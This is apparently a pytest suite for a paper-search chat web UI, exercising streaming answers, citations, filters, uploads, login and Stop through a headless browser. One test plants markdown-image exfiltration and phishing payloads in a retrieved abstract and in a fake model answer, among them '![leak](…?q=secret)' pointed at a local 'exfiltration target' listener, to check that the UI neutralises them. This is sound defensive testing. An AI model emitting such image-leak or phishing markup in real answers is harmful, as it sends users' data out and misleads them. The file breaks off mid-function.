"""The web UI: `rag serve` in a real browser (headless Chromium through Playwright), the `/chat`
API through gradio_client (8 chats at once), LLM failures, the no-LLM banner and the login."""

from __future__ import annotations

import copy
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from tests.fake_llm import FakeLLM, Fault
from tests.helpers import free_port, serving, wait_http

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
KEY = "sk-ui-test-SECRET-4242"
LMUL = "Addition is All You Need for Energy-efficient Language Models"
LION = "Symbolic Discovery of Optimization Algorithms"


def source_number(prompt: str, title: str) -> str | None:
    found = re.search(rf'<source n="(\d+)">\nTitle: {re.escape(title)}\n', prompt)
    return found.group(1) if found else None


def scripted_llm(body: dict[str, Any]) -> str:
    """Condenses follow-ups, answers about L-Mul and Lion citing the right source numbers."""
    prompt = body["messages"][-1]["content"]
    if "Rewrite the user's last message" in prompt:
        return "What are the limitations of the L-Mul multiplication algorithm?"
    if "Suggest three short follow-up questions" in prompt:  # as small models write lists
        return (
            "Sure! Here are three questions:\n1. How accurate is L-Mul on transformer inference? "
            "[1]\n2) **What energy savings does L-Mul report?**\n- Why?\n"
        )
    if "In one or two sentences" in prompt:  # summary map step
        return "It contributes a dataset."
    if "Write the overview" in prompt:  # summary reduce step
        return "**Datasets** Several papers release data [1][2]. **Open problems** Scale [1]."
    if "Summarise this paper" in prompt:
        return "**Problem** P [1]. **Method** M [1]. **Results** R [1]. **Limitations** L [1]."
    for title, text in (
        (LMUL, "L-Mul approximates multiplication with integer additions"),
        (LION, "Lion is a sign-based optimizer found by program search"),
    ):
        n = source_number(prompt, title)
        if n:
            return f"{text} [{n}]."
    return "The collection does not cover this question."


@pytest.fixture(scope="module")
def llm_server() -> Iterator[FakeLLM]:
    server = FakeLLM().start()
    server.default = scripted_llm
    yield server
    server.stop()


@pytest.fixture(scope="module")
def served(
    corpus_index: Path, llm_server: FakeLLM, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, subprocess.Popen[str], Path]]:
    """`rag serve` on a free loopback port, over a copy of the corpus index, with the fake LLM."""
    home = tmp_path_factory.mktemp("ui")
    shutil.copytree(corpus_index, home / "index")
    port = free_port()
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("RAG_", "OPENAI_"))},
        "RAG_INDEX_DIR": str(home / "index"),
        "OPENAI_API_KEY": KEY,
        "OPENAI_BASE_URL": llm_server.base_url,
        "RAG_LLM_MODEL": "fake-model",
        "RAG_LLM_MAX_RETRIES": "0",
        "HF_HUB_OFFLINE": "1",
    }
    log = (home / "server.log").open("w")
    proc = subprocess.Popen(
        [sys.executable, "-m", "rag", "serve", "--port", str(port)],
        env=env,
        cwd=home,
        stdout=log,
        stderr=subprocess.STDOUT,
        text=True,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        wait_http(url, proc)
        yield url, proc, home / "server.log"
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        log.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        if os.environ.get("CI"):
            pytest.fail("CI needs /usr/bin/chromium (apt-get install chromium; .ci/run does it)")
        pytest.skip("no /usr/bin/chromium (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as play:
        chromium = play.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_FLAGS)
        yield chromium
        chromium.close()


def open_page(browser: Any, url: str) -> Any:
    """A desktop-sized tab on the chat UI."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(url)
    return page


def ask_in_page(page: Any, question: str) -> None:
    box = page.locator("#question textarea")
    box.fill(question)
    box.press("Enter")


def test_chat_in_a_real_browser_streams_cites_and_follows_up(
    served: tuple[str, subprocess.Popen[str], Path],
    browser: Any,
    llm_server: FakeLLM,
    tmp_path: Path,
) -> None:
    url, _, log = served
    page = open_page(browser, url)
    page.locator("#question textarea").wait_for(timeout=60_000)

    llm_server.chunk_delay = 0.15  # slow enough to watch the tokens arrive
    ask_in_page(page, "How does L-Mul replace floating point multiplication?")
    chat, sources = page.locator("#chat"), page.locator("#sources")
    chat.get_by_text("L-Mul approximates", exact=False).wait_for(timeout=60_000)
    # Streaming: the first words are on the page while the answer is still being written.
    assert "integer additions" not in chat.inner_text()
    llm_server.chunk_delay = 0.0
    sources.get_by_text(LMUL).wait_for(timeout=60_000)
    panel = sources.inner_text()
    assert "Also retrieved" in panel and "Hugging Face Papers" in panel
    assert page.locator("#sources a[href*='huggingface.co/papers?q=']").count() >= 1
    # No arXiv id is known for a listing-page paper: its link is a Hugging Face Papers search.
    assert page.locator("#sources a[href*='arxiv.org']").count() == 0

    ask_in_page(page, "what about its limitations?")
    wait_answers(page, 2)
    sources.get_by_text(LMUL).wait_for(timeout=60_000)
    condense = [
        r
        for r in llm_server.chat_requests()
        if "Rewrite the user's last message" in r["body"]["messages"][-1]["content"]
    ]
    assert condense, "the follow-up was not condensed with the history"
    assert "User: How does L-Mul replace" in condense[-1]["body"]["messages"][-1]["content"]
    answers = [
        r
        for r in llm_server.chat_requests()
        if "Suggest three short follow-up" not in r["body"]["messages"][-1]["content"]
        and "Rewrite the user's last message" not in r["body"]["messages"][-1]["content"]
    ]
    assert "limitations of the L-Mul" in answers[-1]["body"]["messages"][-1]["content"]

    page.screenshot(path=str(tmp_path / "chat.png"), full_page=True)
    assert (tmp_path / "chat.png").stat().st_size > 10_000
    assert KEY not in page.content() and KEY not in log.read_text()
    page.close()


def test_filters_say_what_this_collection_can_filter_by_and_restrict_the_search(
    served: tuple[str, subprocess.Popen[str], Path], browser: Any, bundled_corpus: Path
) -> None:
    from rag.corpus import Paper, iter_file

    url, _, _ = served
    page = open_page(browser, url)
    page.get_by_text("Filters: which papers may be searched and cited").click()
    sources = page.locator("#sources")
    # Listing pages give no year and no categories: those filters are not offered, and say why.
    notes = page.locator("#filter-notes")
    notes.get_by_text("No date filter").wait_for(timeout=30_000)
    assert "No category filter" in notes.inner_text()
    assert not page.locator("#filter-since").is_visible()
    assert not page.locator("#filter-category").is_visible()

    # Source files by readable names (the page's date), never 000_<hash>.txt.
    files = sorted(bundled_corpus.glob("*.txt"))
    titles = {p.title for p in iter_file(files[0]) if isinstance(p, Paper)}
    picker = page.locator("#filter-source input")
    picker.click()
    options = page.locator("#filter-source [role=option], ul.options li")
    options.first.wait_for(timeout=10_000)
    shown = options.all_inner_texts()
    assert f"Listing page of May 8 ({len(titles)} papers)" in shown, shown
    assert not any(name.endswith(".txt") for name in shown), shown
    picker.fill("May 8")
    picker.press("Enter")
    page.keyboard.press("Escape")
    ask_in_page(
        page, "How does adaptive weighted rejection sampling speed up constrained decoding?"
    )
    sources.get_by_text("Also retrieved").wait_for(timeout=60_000)
    panel = sources.inner_text()
    listed = [
        line.split("] ", 1)[1].split(" · listed ")[0].strip().removesuffix(" (Hugging Face Papers)")
        for line in panel.splitlines()
        if re.match(r"^\[\d+\] ", line)
    ]
    assert len(listed) >= 3 and all(t in titles for t in listed), listed
    page.close()


def test_papers_added_from_the_page_are_searchable_and_bad_filters_are_shown_by_the_fields(
    corpus_index: Path, browser: Any, tmp_path: Path
) -> None:
    """Upload a JSON Lines file (arXiv fields: dates and categories) with one bad line: counts
    and the line's error are shown, the new papers are found, and the filters they bring (date,
    category in any case) appear; a bad date is reported next to its field, not in the chat."""
    shutil.copytree(corpus_index, tmp_path / "index")
    upload = tmp_path / "my-reading-list.jsonl"
    records = [
        {
            "id": f"2406.0000{n}",
            "title": title,
            "abstract": abstract,
            "categories": cats,
            "update_date": day,
        }
        for n, (title, abstract, cats, day) in enumerate(
            [
                (
                    "Glacier Flow Forecasting with Graph Networks",
                    "We forecast glacier flow velocities with graph neural networks over "
                    "satellite radar measurements. The forecasts cut the error of ice-sheet "
                    "models by a third on Greenland outlet glaciers.",
                    "cs.LG physics.geo-ph",
                    "2024-06-03",
                ),
                (
                    "Sea Ice Concentration from Passive Microwave Data",
                    "We estimate sea ice concentration from passive microwave brightness "
                    "temperatures with a convolutional network trained on ship observations.",
                    "physics.ao-ph",
                    "2023-02-10",
                ),
            ]
        )
    ]
    lines = [json.dumps(r) for r in records] + ["{not json"]
    upload.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with serving({"RAG_INDEX_DIR": str(tmp_path / "index")}, tmp_path) as (url, _):
        page = open_page(browser, url)
        page.get_by_role("tab", name="Add papers").click()
        page.locator("#upload input[type=file]").set_input_files(str(upload))
        page.locator("#add-papers").click()
        status = page.locator("#upload-status")
        status.get_by_text("2 new papers").wait_for(timeout=120_000)
        text = status.inner_text()
        assert "1 record skipped" in text, text
        assert "my-reading-list.jsonl:3: not valid JSON" in text and "/tmp" not in text, text
        assert "403 papers" in text, text

        page.get_by_role("tab", name="Chat").click()
        page.get_by_text("Filters: which papers may be searched and cited").click()
        since = page.locator("#filter-since textarea, #filter-since input").first
        since.wait_for(timeout=30_000)  # the uploaded papers have full dates: offered now
        since.fill("2024-13-45")
        since.press("Tab")
        error = page.locator("#filter-error")
        error.get_by_text("is not a date like 2024-01-31", exact=False).wait_for(timeout=30_000)
        ask_in_page(page, "How are glacier flow velocities forecast?")
        page.wait_for_timeout(1500)
        assert page.locator("#chat .message").count() == 0  # not asked: the date is wrong
        assert page.locator("#question textarea").input_value().startswith("How are glacier")

        since.fill("2024-01-01")
        category = page.locator("#filter-category textarea, #filter-category input").first
        category.fill("CS.lg")  # any case
        category.press("Tab")
        page.wait_for_timeout(1000)
        assert not error.is_visible()
        ask_in_page(page, "How are glacier flow velocities forecast?")
        sources = page.locator("#sources")
        sources.get_by_text("Glacier Flow Forecasting with Graph Networks").first.wait_for(
            timeout=60_000
        )
        assert "Sea Ice Concentration" not in sources.inner_text()  # 2023, and not cs.LG
        picker = page.locator("#filter-source input")
        picker.click()
        options = page.locator("#filter-source [role=option], ul.options li")
        options.first.wait_for(timeout=10_000)
        assert "my-reading-list.jsonl (2 papers)" in options.all_inner_texts()
        page.close()


def test_uploads_are_off_on_a_shared_host_without_a_login() -> None:
    from rag.settings import Settings

    assert Settings().ui_upload_allowed("127.0.0.1")
    assert not Settings().ui_upload_allowed("0.0.0.0")
    assert Settings(ui_auth="ann:secret").ui_upload_allowed("0.0.0.0")
    assert not Settings(ui_upload=False).ui_upload_allowed("127.0.0.1")


def test_the_add_papers_tab_exists_only_when_uploads_are_allowed(corpus_settings: Any) -> None:
    from ui.app import build_app

    def tabs(uploads: bool) -> set[str]:
        app = build_app(corpus_settings, uploads=uploads)
        return {c.label for c in app.blocks.values() if c.__class__.__name__ == "Tab"}

    assert "Add papers" in tabs(True) and "Add papers" not in tabs(False)


def test_summaries_tab_topic_and_paper(
    served: tuple[str, subprocess.Popen[str], Path], browser: Any
) -> None:
    url, _, _ = served
    page = open_page(browser, url)
    page.get_by_role("tab", name="Summaries").click()
    page.locator("#topic textarea, #topic input").first.fill("medical image segmentation datasets")
    page.locator("#summarize-topic").click()
    summary = page.locator("#summary")
    summary.get_by_text("References").wait_for(timeout=60_000)
    text = summary.inner_text()
    assert "Several papers release data [1][2]" in text and "[3]" not in text.split("References")[1]

    picker = page.locator("#paper input")
    picker.fill("Pointer Network")  # near, not exact
    picker.press("Enter")
    page.locator("#summarize-paper").click()
    summary.get_by_text("Pointer Networks").wait_for(timeout=60_000)
    assert "Problem" in summary.inner_text()
    page.close()


def test_llm_errors_show_in_the_chat_and_the_next_question_works(
    served: tuple[str, subprocess.Popen[str], Path], browser: Any, llm_server: FakeLLM
) -> None:
    url, proc, log = served
    page = browser.new_page()
    page.goto(url)
    page.locator("#question textarea").wait_for(timeout=60_000)
    llm_server.reply(Fault(500))
    ask_in_page(page, "Which optimizer was discovered by symbolic program search?")
    page.locator("#chat").get_by_text("HTTP 500", exact=False).wait_for(timeout=60_000)
    assert proc.poll() is None  # still serving
    ask_in_page(page, "Which optimizer was discovered by symbolic program search?")
    page.locator("#sources").get_by_text(LION).wait_for(timeout=60_000)
    assert KEY not in page.content() and KEY not in log.read_text()
    page.close()


def test_eight_concurrent_chats_through_the_api(
    served: tuple[str, subprocess.Popen[str], Path],
) -> None:
    from gradio_client import Client

    url, _, _ = served
    questions = [
        "How does L-Mul replace floating point multiplication?",
        "Which optimizer was discovered by symbolic program search?",
    ] * 4

    def one(question: str) -> str:
        return Client(url, verbose=False, analytics_enabled=False).predict(
            question, api_name="/chat"
        )

    with ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(one, questions))
    assert len(replies) == 8
    for question, reply in zip(questions, replies, strict=True):
        title = LMUL if "L-Mul" in question else LION
        assert "\nSources:\n" in reply and title in reply, reply

    # The history argument is optional, and a given history makes a follow-up work.
    history = [
        {"role": "user", "content": questions[0]},
        {"role": "assistant", "content": "L-Mul approximates multiplication [1]."},
    ]
    reply = Client(url, verbose=False, analytics_enabled=False).predict(
        "what about its limitations?", history, api_name="/chat"
    )
    assert LMUL in reply


def test_chat_json_gives_each_claim_its_evidence_and_verdict(
    served: tuple[str, subprocess.Popen[str], Path],
) -> None:
    from gradio_client import Client

    url, _, _ = served
    client = Client(url, verbose=False, analytics_enabled=False)
    data = client.predict(
        "How does L-Mul replace floating point multiplication?", api_name="/chat_json"
    )
    (claim,) = data["claims"]
    assert claim["verdict"] == "supported" and claim["evidence"][0]["quote"]
    assert data["claims_summary"]["supported"] == 1
    cited = {s["n"]: s for s in data["sources"]}[claim["citations"][0]]
    assert cited["title"] == LMUL and cited["quote"] == claim["evidence"][0]["quote"]


def test_no_llm_banner_extractive_answers_and_login(
    corpus_settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    import json

    from gradio_client import Client

    from ui.app import NO_LLM_BANNER, launch

    settings = corpus_settings.model_copy(update={"ui_auth": None})
    port = free_port()
    app = launch(settings, port=port, block=False)
    try:
        url = f"http://127.0.0.1:{port}"
        config = json.loads(urllib.request.urlopen(f"{url}/config", timeout=10).read())
        assert NO_LLM_BANNER in json.dumps(config)
        reply = Client(url, verbose=False, analytics_enabled=False).predict(
            "How does L-Mul replace floating point multiplication?", api_name="/chat"
        )
        assert LMUL in reply and "Sources:" in reply
    finally:
        app.close()

    from pydantic import SecretStr

    locked = corpus_settings.model_copy(update={"ui_auth": SecretStr("ada:lovelace")})
    port = free_port()
    app = launch(locked, port=port, block=False)
    try:
        url = f"http://127.0.0.1:{port}"
        with pytest.raises(urllib.error.HTTPError) as denied:
            urllib.request.urlopen(f"{url}/config", timeout=10)
        assert denied.value.code == 401
        client = Client(url, auth=("ada", "lovelace"), verbose=False, analytics_enabled=False)
        assert LMUL in client.predict("How does L-Mul work?", api_name="/chat")
    finally:
        app.close()


def test_first_start_builds_the_index_then_serves(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    records = [
        {
            "title": "Pointer Networks",
            "abstract": "Pointer networks use attention as a pointer "
            "to select positions of the input sequence as outputs, for sorting and convex hulls.",
        },
        {
            "title": "Lion Optimizer",
            "abstract": "A sign-based optimizer discovered by program "
            "search uses less memory than AdamW and trains vision transformers faster.",
        },
    ]
    from tests.helpers import write_jsonl

    write_jsonl(corpus / "papers.jsonl", records)
    port = free_port()
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("RAG_", "OPENAI_"))},
        "RAG_INDEX_DIR": str(tmp_path / "index"),
        "RAG_CORPUS_DIR": str(corpus),
    }
    proc = subprocess.Popen(
        [sys.executable, "-m", "rag", "serve", "--port", str(port)],
        env=env,
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        wait_http(f"http://127.0.0.1:{port}", proc)
        from gradio_client import Client

        reply = Client(f"http://127.0.0.1:{port}", verbose=False, analytics_enabled=False).predict(
            "Which optimizer uses less memory than AdamW?", api_name="/chat"
        )
        assert "Lion Optimizer" in reply
    finally:
        proc.terminate()
        _, err = proc.communicate(timeout=30)
    assert "no index yet: building it from the bundled corpus" in err
    assert (tmp_path / "index" / "chroma").is_dir()


class Listener:
    """A loopback HTTP server that records every request (an exfiltration target)."""

    def __init__(self) -> None:
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        self.paths: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def test_markup_from_abstracts_and_models_is_shown_as_text(
    browser: Any, tmp_path: Path, llm_server: FakeLLM
) -> None:
    """Issue 19.2: an image in a quoted abstract or in a model's answer loads nothing, and no
    link of theirs appears; the app's own source links still do."""
    from tests.helpers import write_jsonl

    listener = Listener()
    hostile = (
        f"Retrieval augmented generation answers questions over papers with citations. "
        f"![pixel]({listener.url}/abstract.png) <img src='{listener.url}/tag.png'> "
        f"[Verify your account]({listener.url}/phish) and see {listener.url}/bare for more."
    )
    papers = [{"title": "Hostile Retrieval Paper", "abstract": hostile}]
    (tmp_path / "corpus").mkdir()
    write_jsonl(tmp_path / "corpus" / "hostile.jsonl", papers)
    old_default = llm_server.default
    llm_server.default = (
        f"It answers questions with citations [1]. ![leak]({listener.url}/model.png?q=secret) "
        f"<img src='{listener.url}/model-tag.png'> [Click here]({listener.url}/model-link)"
    )
    port = free_port()
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("RAG_", "OPENAI_"))},
        "RAG_INDEX_DIR": str(tmp_path / "index"),
        "RAG_CORPUS_DIR": str(tmp_path / "corpus"),
        "RAG_MIN_RELEVANCE": "0",
        "RAG_CONFIDENT_RELEVANCE": "0",
    }
    try:
        for name, extra in (
            ("extractive", {}),
            ("llm", {"OPENAI_API_KEY": "sk-x", "OPENAI_BASE_URL": llm_server.base_url}),
        ):
            proc = subprocess.Popen(
                [sys.executable, "-m", "rag", "serve", "--port", str(port)],
                env={**env, **extra},
                cwd=tmp_path,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.PIPE,
                text=True,
            )
            try:
                wait_http(f"http://127.0.0.1:{port}", proc)
                page = open_page(browser, f"http://127.0.0.1:{port}")
                ask_in_page(page, "How do retrieval augmented generation systems cite papers?")
                page.locator("#sources").get_by_text("Hostile Retrieval Paper").first.wait_for(
                    timeout=60_000
                )
                page.wait_for_timeout(1500)  # any image would have been fetched by now
                chat = page.locator("#chat")
                hrefs = chat.locator("a").evaluate_all("els => els.map(e => e.href)")
                assert not [h for h in hrefs if listener.url in h], (name, hrefs)
                assert chat.locator("img").count() == 0 or not [
                    s
                    for s in chat.locator("img").evaluate_all("els => els.map(e => e.src)")
                    if listener.url in s
                ]
                text = chat.inner_text()
                assert "Verify your account" in text or "Click here" in text, name
                sources = page.locator("#sources a").evaluate_all("els => els.map(e => e.href)")
                assert any("huggingface.co/papers" in h for h in sources)  # our own links stay
                assert not [h for h in sources if listener.url in h]
                page.close()
            finally:
                proc.terminate()
                proc.wait(timeout=30)
        assert listener.paths == []
    finally:
        llm_server.default = old_default
        listener.server.shutdown()


# ------------------------------------------------ issue 17: a chat a researcher can check


def wait_answers(page: Any, count: int) -> None:
    """Until `count` answers have their sources fold (an answer is complete when it does)."""
    page.wait_for_function(
        f"() => document.querySelectorAll('#chat details').length >= {count}", timeout=60_000
    )


@pytest.mark.parametrize("viewport", [(1440, 900), (390, 844)], ids=["desktop", "phone"])
def test_citation_chips_link_to_each_answers_own_sources(
    served: tuple[str, subprocess.Popen[str], Path], browser: Any, viewport: tuple[int, int]
) -> None:
    url, _, _ = served
    page = browser.new_page(viewport={"width": viewport[0], "height": viewport[1]})
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(url)
    ask_in_page(page, "How does L-Mul replace floating point multiplication?")
    wait_answers(page, 1)
    ask_in_page(page, "Which optimizer was found by program search and keeps only the momentum?")
    wait_answers(page, 2)
    first, second = page.locator("#chat details").all()[:2]
    assert LMUL in first.inner_text() and LION in second.inner_text()  # each keeps its own
    chips = page.locator("#chat a.cite")
    hrefs = chips.evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert any(h.startswith("#a0-s") for h in hrefs) and any(h.startswith("#a1-s") for h in hrefs)
    for chip in chips.all():  # every chip names its paper on hover and has its card
        target = chip.get_attribute("href")[1:]
        assert page.locator(f'#chat [id="{target}"]').count() == 1
        title = chip.get_attribute("title") or ""
        assert title.split(":")[0] in (LMUL, LION) or title.startswith(LMUL[:20])
    first_chip = page.locator('#chat a.cite[href^="#a0-s"]').first
    assert LMUL in (first_chip.get_attribute("title") or "")
    # Every title is a link to the paper, in the chat and in the Sources panel alike.
    for where in ("#chat details", "#sources"):
        links = page.locator(f"{where} a[href*='huggingface.co/papers?q=']")
        assert links.count() >= 1 and any(LION in t or LMUL in t for t in links.all_inner_texts())
    # Per-claim evidence: the supporting passage and its verdict under the cited paper.
    assert "✓" in first.inner_text() or "⚠" in first.inner_text()
    question_top = page.locator("#question textarea").bounding_box()
    assert question_top is not None and question_top["width"] > 0.5 * min(viewport[0], 900)
    assert not errors, errors
    page.close()


def wait_disconnect(page: Any, llm_server: FakeLLM, disconnects: int) -> None:
    """The LLM server sees the client go, within 30 s (at once on a quiet machine; seconds
    when the cores are busy with an ingest)."""
    for _ in range(300):
        if llm_server.disconnects > disconnects:
            return
        page.wait_for_timeout(100)
    assert llm_server.disconnects > disconnects


def test_trash_clear_stop_and_typing_while_waiting(
    served: tuple[str, subprocess.Popen[str], Path], browser: Any, llm_server: FakeLLM
) -> None:
    url, _, _ = served
    page = open_page(browser, url)
    ask_in_page(page, "How does L-Mul replace floating point multiplication?")
    wait_answers(page, 1)
    # The chat's own trash icon forgets the conversation like Clear does: the follow-up that
    # comes next is not rewritten with the old question, and the Sources panel is emptied.
    page.locator("#chat button[aria-label='Clear']").click()
    page.locator("#sources").get_by_text("Ask a question").wait_for(timeout=30_000)
    before = len(llm_server.chat_requests())
    ask_in_page(page, "What are its limitations?")
    page.wait_for_function(
        "() => document.querySelector('#chat').innerText.includes('does not cover') || "
        "document.querySelectorAll('#chat details').length >= 1",
        timeout=60_000,
    )
    asked = [r["body"]["messages"][-1]["content"] for r in llm_server.chat_requests()[before:]]
    assert not any("Rewrite the user's last message" in p for p in asked)

    # Stop ends the stream (the server sees the client go); text typed meanwhile stays.
    page.locator("#clear").click()
    disconnects = llm_server.disconnects
    llm_server.chunk_delay = 0.5
    try:
        asked_before = len(llm_server.chat_requests())
        ask_in_page(page, "How does L-Mul replace floating point multiplication?")
        # The question's own bubble says L-Mul at once: Stop once the answer is streaming
        # (under load, retrieval can still be running when the bubble shows).
        for _ in range(600):
            if len(llm_server.chat_requests()) > asked_before:
                break
            page.wait_for_timeout(100)
        page.locator("#chat").get_by_text("L-Mul", exact=False).first.wait_for(timeout=60_000)
        page.locator("#question textarea").fill("typed while waiting")
        page.locator("#stop").click()
        wait_disconnect(page, llm_server, disconnects)
        assert page.locator("#question textarea").input_value() == "typed while waiting"
        shown = page.locator("#chat").inner_text()
        page.wait_for_timeout(1500)
        assert page.locator("#chat").inner_text() == shown  # nothing arrives after Stop
        assert "integer additions" not in shown

        # Stop also ends the follow-up suggestions the LLM is writing after the answer.
        page.locator("#clear").click()
        llm_server.chunk_delay = 0.0
        ask_in_page(page, "How does L-Mul replace floating point multiplication?")
        wait_answers(page, 1)
        llm_server.chunk_delay = 0.5
        ask_in_page(page, "How does L-Mul replace floating point multiplication?")
        page.wait_for_function(
            "() => document.querySelectorAll('#chat details').length >= 2", timeout=90_000
        )
        disconnects = llm_server.disconnects
        page.locator("#stop").click()
        wait_disconnect(page, llm_server, disconnects)
        assert not page.locator("#follow-ups").get_by_text("How accurate is L-Mul").is_visible()
    finally:
        llm_server.chunk_delay = 0.0
    page.close()


def test_an_answer_being_searched_for_lets_a_stop_through_promptly() -> None:
    """A search that emits nothing for seconds still yields every IDLE_S, so a Stop pressed
    while it runs is seen at once, not when the search ends."""
    from ui.background import IDLE, IDLE_S, in_background

    release = threading.Event()
    emitted: list[str] = []

    def search(emit: Any) -> str:
        release.wait(10)
        emit("token")  # raises once the reader has gone
        emitted.append("token")
        return "answer"

    items = in_background(search, idle=True)
    start = time.monotonic()
    assert next(items) is IDLE
    assert time.monotonic() - start < IDLE_S + 1.0
    items.close()  # what Gradio does when the page goes
    release.set()
    time.sleep(0.3)
    assert emitted == []  # the stopped work emitted nothing more
    assert list(in_background(lambda emit: (emit("a"), "done")[1])) == ["a", "done"]


def test_stop_ends_the_answers_running_when_it_is_pressed_and_no_later_one() -> None:
    from ui.background import Answering, in_background

    tab = Answering()
    with tab.running() as first:
        tab.stop()
        assert first.is_set() and first.reason == "stop"
    with tab.running() as later:  # the next question, asked after Stop
        assert not later.is_set()
        items = in_background(lambda emit: (emit("a"), "done")[1], stop=later)
        assert list(items) == ["a", "done"]
    with tab.running() as cleared:
        tab.stop("clear")
        assert cleared.reason == "clear"
        assert list(in_background(lambda emit: (emit("a"), "done")[1], stop=cleared)) == []
    assert copy.deepcopy(tab) is tab  # Gradio copies a tab's state once: still one registry


def test_stop_while_searching_says_stopped_and_the_next_question_is_answered(
    served: tuple[str, subprocess.Popen[str], Path], browser: Any, llm_server: FakeLLM
) -> None:
    url, _, _ = served
    page = open_page(browser, url)
    llm_server.delay = 4.0  # the model takes 4 s to begin: the answer shows "Searching…"
    try:
        ask_in_page(page, "How does L-Mul replace floating point multiplication?")
        page.locator("#chat").get_by_text("Searching the collection").wait_for(timeout=30_000)
        page.locator("#stop").click()
        page.locator("#chat").get_by_text("Stopped before the answer was written").wait_for(
            timeout=30_000
        )
        assert not page.locator("#chat").get_by_text("Searching the collection").count()
    finally:
        llm_server.delay = 0.0
    ask_in_page(page, "How does L-Mul replace floating point multiplication?")
    wait_answers(page, 1)
    page.close()


def test_a_marker_no_source_can_have_never_shows_while_streaming(
    served: tuple[str, subprocess.Popen[str], Path], browser: Any, llm_server: FakeLLM
) -> None:
    url, _, _ = served
    page = open_page(browser, url)
    llm_server.chunk_delay = 0.1
    llm_server.reply("L-Mul approximates multiplication [99] with integer additions [1] [0].")
    try:
        ask_in_page(page, "How does L-Mul replace floating point multiplication?")
        seen = []
        for _ in range(300):  # until the answer is complete (its sources fold), 30 s at most
            seen.append(page.locator("#chat").inner_text())
            if page.locator("#chat details").count():
                break
            page.wait_for_timeout(100)
    finally:
        llm_server.chunk_delay = 0.0
    assert any("L-Mul approximates" in text for text in seen)
    assert not any("[99]" in text or "[0]" in text for text in seen)
    page.close()


def test_the_conversation_downloads_as_markdown_and_bibtex(
    served: tuple[str, subprocess.Popen[str], Path], browser: Any
) -> None:
    url, _, _ = served
    page = open_page(browser, url)
    ask_in_page(page, "How does L-Mul replace floating point multiplication?")
    wait_answers(page, 1)
    # Follow-ups the LLM suggested (list marks, [1] and a bare "Why?" taken off), in full;
    # one click puts one in the box.
    suggested = page.locator("#follow-ups button")
    suggested.first.get_by_text("How accurate is L-Mul").wait_for(timeout=30_000)
    assert [b for b in suggested.all_inner_texts() if b.strip()] == [
        "How accurate is L-Mul on transformer inference?",
        "What energy savings does L-Mul report?",
    ]
    suggested.nth(1).click()
    page.wait_for_function(
        "() => document.querySelector('#question textarea').value"
        " === 'What energy savings does L-Mul report?'",
        timeout=10_000,
    )
    with page.expect_download() as download:
        page.locator("#save-md").click()
    markdown = Path(download.value.path()).read_text()
    assert "### Q: How does L-Mul replace" in markdown and "**References**" in markdown
    assert "user:" not in markdown and f"[{LMUL}](" in markdown
    with page.expect_download() as download:
        page.locator("#save-bib").click()
    bib = Path(download.value.path()).read_text()
    assert bib.lstrip().startswith("@") and "title = {" in bib and "Addition is All You Need" in bib
    # The one-paper picker starts empty: no click summarises a paper nobody chose.
    page.get_by_role("tab", name="Summaries").click()
    assert page.locator("#paper input").input_value() == ""
    page.close()


def test_on_a_phone_without_an_llm_the_question_box_is_on_the_first_screen(
    corpus_settings: Any, browser: Any
) -> None:
    from ui.app import launch

    port = free_port()
    app = launch(corpus_settings.model_copy(update={"ui_auth": None}), port=port, block=False)
    try:
        page = browser.new_page(viewport={"width": 390, "height": 844})
        page.goto(f"http://127.0.0.1:{port}")
        page.locator("#no-llm-banner").wait_for(timeout=60_000)
        page.wait_for_timeout(2000)  # fonts and late components settle the layout
        page.evaluate("window.scrollTo(0, 0)")  # as the page opens, before autofocus scrolls
        box = page.locator("#question textarea").bounding_box()
        assert box is not None and box["y"] + box["height"] <= 844
        assert not page.locator("#chat").get_by_text("Model name").count()
        # No floating "Chat" label over the messages (the tab names it); example questions in
        # full, never cut with "..."; no separator at the end of the footer.
        assert not page.locator("#chat label[data-testid=block-label]").count()
        from ui.app import EXAMPLES

        assert page.locator("#examples button").all_inner_texts() == EXAMPLES
        dividers = page.locator("footer .divider")
        assert all(not dividers.nth(i).is_visible() for i in range(dividers.count()))
        page.close()
    finally:
        app.close()


def test_rag_serve_mcp_lists_the_tools_and_searches_through_a_real_mcp_client(
    corpus_index: Path, tmp_path: Path
) -> None:
    import asyncio
    import json as jsonlib

    from mcp import ClientSession
    from mcp.client.streamable_http import streamablehttp_client

    shutil.copytree(corpus_index, tmp_path / "index")
    env = {"RAG_INDEX_DIR": str(tmp_path / "index"), "HF_HUB_OFFLINE": "1"}

    async def use(url: str) -> tuple[set[str], str, str]:
